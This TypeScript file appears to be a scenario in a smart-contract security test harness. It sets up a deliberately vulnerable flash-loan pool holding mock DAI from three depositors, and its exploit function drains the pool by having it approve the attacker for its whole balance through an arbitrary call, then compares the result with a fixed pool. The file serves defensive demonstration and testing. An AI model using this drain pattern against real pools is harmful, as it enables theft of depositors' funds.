import {
  ITokenFlashPool__factory,
  MockERC20__factory,
  NaiveTokenFlashPool__factory,
  TokenFlashPool__factory,
  type ITokenFlashPool,
  type MockERC20,
} from "../../typechain-types/index.js";
import { formatAmount } from "./format.js";
import { measureTracked } from "./measure.js";
import { commonChecks } from "./run.js";
import { attempt, send } from "./steps.js";
import type { Scenario, World } from "./types.js";

const DAI = 10n ** 18n;

/** What the pool's depositors have in it when the attacker arrives: 100,000 DAI together. */
export const TRUSTER_DEPOSITS = { alice: 40_000n * DAI, bob: 35_000n * DAI, carol: 25_000n * DAI };

export interface TrusterWorld extends World {
  /** The pool under attack (NaiveTokenFlashPool or TokenFlashPool: same interface). */
  pool: ITokenFlashPool;
  /** The token the pool lends: the sandbox's DAI. */
  token: MockERC20;
}

/** A token flash pool that makes any call the borrower asks for, from its own address. */
export const flashLoanTruster: Scenario<TrusterWorld> = {
  name: "flash-loan-truster",
  title: "Flash-loan pool accounting: an arbitrary call made by the pool",
  incident:
    "Poly Network, 2021-08-10: ~$611M; a privileged contract executed the attacker's call and replaced the keepers",
  fix: "the only call is ERC-3156 onFlashLoan, checked for its magic value",

  async setup(env, side) {
    const { actors, sandbox, log } = env;
    const token = MockERC20__factory.connect(await sandbox.dai.getAddress(), actors.deployer);
    const factory =
      side === "vulnerable"
        ? new NaiveTokenFlashPool__factory(actors.deployer)
        : new TokenFlashPool__factory(actors.deployer);
    const deployed = await factory.deploy(await token.getAddress());
    await deployed.waitForDeployment();
    const address = await deployed.getAddress();
    const pool = ITokenFlashPool__factory.connect(address, actors.deployer);
    const world: TrusterWorld = {
      side,
      env,
      attacker: actors.attacker,
      contract: side === "vulnerable" ? "NaiveTokenFlashPool" : "TokenFlashPool",
      pool,
      token,
      tracked: {
        asset: { kind: "erc20", symbol: "DAI", decimals: 18, token },
        attacker: [actors.attacker.address],
        victims: [actors.alice.address, actors.bob.address, actors.carol.address],
        protocol: address,
        victimsClaims: 0n,
        dust: 0n,
      },
      errorInterfaces: [ITokenFlashPool__factory.createInterface(), token.interface],
    };
    for (const name of ["alice", "bob", "carol"] as const) {
      const amount = TRUSTER_DEPOSITS[name];
      const account = actors[name];
      await send(token.faucet(account.address, amount));
      await send(token.connect(account).approve(address, amount));
      await send(pool.connect(account).deposit(amount));
      world.tracked.victimsClaims += amount;
      log(`  ${name} deposits ${formatAmount(amount, 18, "DAI")}`);
    }
    return world;
  },

  async exploit(world) {
    const { attacker, pool, token, env } = world;
    const poolAddress = await pool.getAddress();
    const balance = await token.balanceOf(poolAddress);
    const approval = token.interface.encodeFunctionData("approve", [attacker.address, balance]);
    env.log("  attacker borrows nothing and has the pool call DAI.approve(attacker, everything)");
    await send(pool.connect(attacker).flashLoan(await token.getAddress(), 0n, approval));
    env.log(`  attacker pulls ${formatAmount(balance, 18, "DAI")} with the approval`);
    await send(token.connect(attacker).transferFrom(poolAddress, attacker.address, balance));
  },

  async settle(world) {
    const { actors } = world.env;
    for (const name of ["alice", "bob", "carol"] as const) {
      const owed = await world.pool.balanceOf(actors[name].address);
      if (owed === 0n) continue;
      await attempt(world, `${name} withdraws ${formatAmount(owed, 18, "DAI")}`, () =>
        world.pool.connect(actors[name]).withdraw(owed),
      );
    }
  },

  measure(world, sinceBlock) {
    return measureTracked(world.env.ethers, world.tracked, sinceBlock);
  },

  check: commonChecks,
};
